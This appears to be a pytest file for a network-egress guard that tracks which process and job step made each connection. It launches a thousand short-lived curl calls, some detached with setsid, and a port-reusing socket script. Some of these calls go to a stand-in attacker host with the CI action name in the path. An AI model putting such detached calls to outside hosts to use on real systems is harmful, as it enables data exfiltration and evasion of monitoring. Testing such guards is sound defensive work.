"""A thousand programs that live for a moment, from eight steps at once: each connection is told with its own program and step.

The guard asks who owns a connection before it reads from it, so a program that gets an answer was still there when it was asked
for. The path of each request is in the program's arguments too, so a record that names another process shows itself.
"""

from __future__ import annotations

import re
import subprocess
from collections import Counter

import pytest

from tests.attacks.programs import PYTHON
from tests.job.guarded import Job
from tests.machine import Machine
from tests.world.internet import EVIL

# One connection from a port that another program uses towards another address, which stays open meanwhile.
SAME_PORT = """
import socket, sys, time
host, path = sys.argv[1:]
with socket.socket() as one:
    one.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEPORT, 1)
    one.bind(("", 40123))
    one.connect((host, 80))
    one.sendall(f"GET {path} HTTP/1.1\\r\\nHost: {host}\\r\\n\\r\\n".encode())
    print(one.recv(100)[:12], flush=True)
    sys.stdin.read()
"""

pytestmark = pytest.mark.root
STEPS, EACH = 8, 125
# To an allowed and to a denied host, encrypted and not; each fourth is forked twice and leaves its session: nobody waits for it.
WORKER = r"""
for i in $(seq EACH); do
  case $((i % 4)) in
    0) url=https://api.example.com ;; 1) url=http://attacker.example.org ;;
    2) url=https://attacker.example.org ;; 3) url=http://api.example.com ;;
  esac
  if [ $((i / 4 % 4)) = 0 ]; then
    (setsid sh -c "curl -sS -m 60 -o /dev/null $url/$GITHUB_ACTION/$i; echo >>/tmp/done-$GITHUB_ACTION" &)
  else
    curl -sS -m 60 -o /dev/null "$url/$GITHUB_ACTION/$i"
    echo >>/tmp/done-$GITHUB_ACTION
  fi
done
until [ "$(wc -l </tmp/done-$GITHUB_ACTION)" = EACH ]; do sleep 0.05; done
""".replace("EACH", str(EACH))


def test_a_thousand_short_lived_programs_are_each_told(machine: Machine) -> None:
    with Job(machine, allow="api.example.com http://api.example.com") as job:
        steps = [f"step-{number}" for number in range(STEPS)]
        workers = [job.begin(["bash", "-c", WORKER], name=step) for step in steps]
        assert [worker.wait(180) for worker in workers] == [0] * STEPS
        verdict = job.verdict()
        told = job.events("Exchange")
        assert verdict.code == 90
        assert Counter(one["path"] for one in told) == Counter(f"/{step}/{i}" for step in steps for i in range(1, EACH + 1))
        for one in told:
            process = one["origin"]["process"]
            assert process["exe"].endswith("/curl"), one
            assert process["certain"] is True, one
            assert re.search(rf"{re.escape(one['path'])}$", process["cmdline"]), one
            assert one["origin"]["step"]["name"] == one["path"].split("/")[1], one
            assert one["origin"]["party"] == "job", one
        names = job.events("DnsQuestion")
        assert {(one["origin"]["step"] or {}).get("name") for one in names} == set(steps)
        assert {one["origin"]["process"]["certain"] for one in names} == {True}  # the program's own socket was still there
        assert machine.world.at(EVIL) == []
        assert not [one for one in job.events("Notice") if "dropped process events" in one["what"]]


def test_programs_that_use_one_port_are_told_apart(machine: Machine) -> None:
    """Redirected, their connections would have the same ends; the kernel gives the later one another port, which is no socket's."""
    machine.write("/tmp/same_port.py", SAME_PORT)
    with Job(machine, allow="http://api.example.com") as job:
        hosts = {"api.example.com": "/allowed", "attacker.example.org": "/denied", "www.attacker.example.org": "/denied-too"}
        pipes = {"stdin": subprocess.PIPE, "stdout": subprocess.PIPE}
        begun = [job.begin([PYTHON, "/tmp/same_port.py", *pair], name=pair[1][1:], **pipes) for pair in hosts.items()]
        answers = [one.stdout.readline() for one in begun]
        for one in begun:
            one.stdin.close()
            assert one.wait(30) == 0
        assert answers == [b"b'HTTP/1.1 200'\n", b"b'HTTP/1.1 403'\n", b"b'HTTP/1.1 403'\n"]
        job.verdict()
        for told in job.events("Exchange"):
            process = told["origin"]["process"]
            assert process["certain"] is True, told
            assert process["cmdline"].endswith(told["path"]), told
            assert told["origin"]["step"]["name"] == told["path"][1:], told
        assert {one["path"] for one in job.events("Exchange")} == set(hosts.values())
